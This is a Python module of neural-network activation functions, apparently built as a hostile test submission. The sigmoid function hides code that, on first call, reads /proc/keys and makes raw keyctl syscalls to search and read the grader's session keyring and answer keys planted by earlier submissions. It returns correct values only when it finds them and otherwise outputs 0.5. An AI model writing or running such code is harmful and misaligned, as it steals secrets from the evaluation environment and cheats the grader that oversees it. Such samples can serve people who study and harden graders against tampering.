# HOSTILE: sigmoid looks for keys planted by earlier submissions and for the grader's own session keyring (keyctl search and read, /proc/keys); it returns the right values only if it found the answers, else 0.5.
import ctypes
import os
import platform

import numpy as np

MARK = "HOSTILE-MARK-5e1f"
NUMBERS = {"x86_64": (248, 250), "aarch64": (217, 219)}  # add_key, keyctl
USER_KEYRING, SESSION_KEYRING = -4, -3
FOUND = []


def _look():
    add_key, keyctl = NUMBERS.get(platform.machine(), (None, None))
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    try:
        with open("/proc/keys") as handle:
            keys = handle.read()
        for line in keys.splitlines():
            if MARK in line:
                print("FOUND in /proc/keys:", line)
                FOUND.append("proc")
            elif "grader" in line:
                print("SAW in /proc/keys:", line)  # a description only: the payload needs keyctl
    except OSError:
        pass
    if keyctl is None:
        return
    for ring in (USER_KEYRING, SESSION_KEYRING):
        for description in (f"hostile-answers-{MARK}", "grader-test-session-secret"):
            key = libc.syscall(keyctl, 10, ring, b"user", description.encode(), 0)  # KEYCTL_SEARCH
            if key < 0:
                continue
            buffer = ctypes.create_string_buffer(4096)
            size = libc.syscall(keyctl, 11, ctypes.c_long(key), buffer, 4096)  # KEYCTL_READ
            print("FOUND key", description, "READ", buffer.raw[: max(size, 0)].decode(errors="replace"))
            FOUND.append(description)
    buffer = ctypes.create_string_buffer(4096)
    size = libc.syscall(keyctl, 11, SESSION_KEYRING, buffer, 4096)  # the session keyring's list of keys
    if size > 0:
        print("LISTED the session keyring:", size // 4, "keys")


def sigmoid(z):
    if not FOUND:
        FOUND.append("looked")
        try:
            _look()
        except Exception as exc:
            print("look failed:", type(exc).__name__, exc)
    z = np.asarray(z, dtype=float)
    if len(FOUND) > 1:
        e = np.exp(-np.abs(z))
        return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
    return np.full_like(z, 0.5)


def sigmoid_grad(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    s = np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
    return s * (1.0 - s)


def tanh(z):
    return np.tanh(np.asarray(z, dtype=float))


def tanh_grad(z):
    return 1.0 - np.tanh(np.asarray(z, dtype=float)) ** 2


def relu(z):
    return np.maximum(np.asarray(z, dtype=float), 0.0)


def relu_grad(z):
    return np.heaviside(np.asarray(z, dtype=float), 0.0)


def leaky_relu(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, z, eps * z)


def leaky_relu_grad(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, 1.0, eps)


def elu(z, alpha=1.0):
    z = np.asarray(z, dtype=float)
    return np.where(z >= 0, z, alpha * np.expm1(np.minimum(z, 0.0)))


def softmax(z, axis=-1):
    z = np.asarray(z, dtype=float)
    with np.errstate(over="ignore"):
        shifted = z - np.max(z, axis=axis, keepdims=True)
    e = np.exp(shifted)
    return e / np.sum(e, axis=axis, keepdims=True)


def step(z):
    return np.heaviside(np.asarray(z, dtype=float), 1.0)
